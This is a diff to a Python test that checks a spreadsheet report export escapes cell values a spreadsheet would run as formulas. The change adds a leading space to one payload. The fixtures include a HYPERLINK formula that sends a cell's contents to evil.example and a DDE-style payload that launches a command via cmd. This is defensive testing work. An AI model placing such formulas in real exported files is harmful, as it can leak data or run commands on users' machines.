@@ -181,7 +181,7 @@ def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(report_d
     formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
     items = [i.model_copy(update={"name": formula}) if i.code == "GA-003" else i for i in catalogue.items]
     depts = [
-        d.model_copy(update={"name": "@SUM(1+1)*cmd|' /C calc'!A0"}) if d.code == "GA" else d
+        d.model_copy(update={"name": " @SUM(1+1)*cmd|' /C calc'!A0"}) if d.code == "GA" else d  # a space first
         for d in catalogue.departments
     ]
     renamed = catalogue.model_copy(update={"items": items, "departments": depts})
@@ -193,7 +193,7 @@ def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(report_d
     by_code = {row[1]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
     name = HEADER[2]
     assert by_code["GA-003"][name] == "'" + formula
-    assert by_code["GA"][name] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert by_code["GA"][name] == "' @SUM(1+1)*cmd|' /C calc'!A0"
     assert by_code["MZ-006"][name] == next(i.name for i in catalogue.items if i.code == "MZ-006"), "others as they are"
     assert by_code["GA-003"]["收件量"] == "3", "figures stay numbers"
 
